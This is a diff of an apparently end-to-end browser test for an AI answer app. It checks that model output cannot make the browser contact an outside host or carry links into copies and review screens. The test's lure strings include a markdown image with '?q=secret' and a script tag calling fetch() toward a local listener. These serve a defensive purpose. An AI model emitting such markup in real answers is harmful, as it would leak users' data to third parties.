@@ -3,8 +3,10 @@ import type { AddressInfo } from "node:net";
 import { enter, expect, expectAccessible, test } from "./fixtures.ts";
 
 const policy =
-  "Refund Policy\n\n1. Time limits\nA customer may return an unopened product within 30 days of delivery.\n";
+  "Refund Policy\n\n1. Time limits\nA customer may return an unopened product within 30 days of delivery.\n" +
+  "\n2. Contact\nWrite to refunds@harbor.example or go to https://harbor.example/refunds for a label.\n";
 const right = "A customer may return an unopened product within 30 days of delivery [1].";
+const address = "Write to refunds@harbor.example or go to https://harbor.example/refunds for a label";
 
 /** Whoever a reply would lure the browser to. */
 async function startListener(): Promise<{ url: string; hits: string[]; close(): void }> {
@@ -18,13 +20,15 @@ async function startListener(): Promise<{ url: string; hits: string[]; close(): 
   return { url: `http://127.0.0.1:${port}`, hits, close: () => void server.close() };
 }
 
-test("nothing a model writes makes the browser ask anyone, in the stream, in history and in review (L3)", async ({
+test("nothing a model writes makes the browser ask anyone or can be followed, in the stream, in history and in review (L3)", async ({
   page,
+  context,
   url,
   api,
   company,
   model,
 }) => {
+  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
   const listener = await startListener();
   const lures = [
     `![a](${listener.url}/inline?q=secret)`,
@@ -37,7 +41,7 @@ test("nothing a model writes makes the browser ask anyone, in the stream, in his
     `<script>fetch("${listener.url}/script")</script><a ping="${listener.url}/ping" href="#">x</a>`,
   ];
   // pieces of twelve characters: every lure is split over several parts of the stream
-  model.behave({ kind: "answer", reply: () => `${right}\n\n${lures.join("\n\n")}\n\n${right}` });
+  model.behave({ kind: "answer", reply: () => `${right}\n\n${lures.join("\n\n")}\n\n${address} [1].` });
   try {
     await api("POST", "/api/themes", { name: "Refunds", workspaceId: company.workspaceId });
     await enter(page, url, company.admin);
@@ -57,8 +61,15 @@ test("nothing a model writes makes the browser ask anyone, in the stream, in his
     await expect(
       page.locator("article img, article iframe, article style, article script, article link"),
     ).toHaveCount(0);
-    for (const link of await page.locator("article a").all())
-      expect(await link.getAttribute("href")).toMatch(/^(?:https?:|mailto:)/);
+    await expect(page.locator("article").getByText(address)).toBeVisible();
+    await expect(page.locator("article a")).toHaveCount(0);
+    await expect(page.getByText(/sentences were removed because no source supports them/)).toBeVisible();
+    await expect(page.locator("article")).not.toContainText(listener.url);
+    await page.getByRole("button", { name: "Copy with sources" }).click();
+    await expect(page.getByText("The answer and its sources are on the clipboard.")).toBeVisible();
+    const copied = await page.evaluate(() => navigator.clipboard.readText());
+    expect(copied).toContain("sentences were removed because no source supports them");
+    expect(copied).not.toContain(listener.url);
     await expectAccessible(page);
     await page.reload();
     await page.goto(`${url}/admin?tab=interactions`);
@@ -67,6 +78,9 @@ test("nothing a model writes makes the browser ask anyone, in the stream, in his
       .first()
       .click();
     await expect(page.getByRole("dialog")).toBeVisible();
+    const details = page.getByRole("dialog");
+    await expect(details.getByRole("heading", { name: "Removed from the model’s answer" })).toBeVisible();
+    await expect(details.locator("a[href^='http'], a[href^='mailto'], img")).toHaveCount(0);
     await page.waitForTimeout(500);
     expect(listener.hits).toEqual([]);
   } finally {
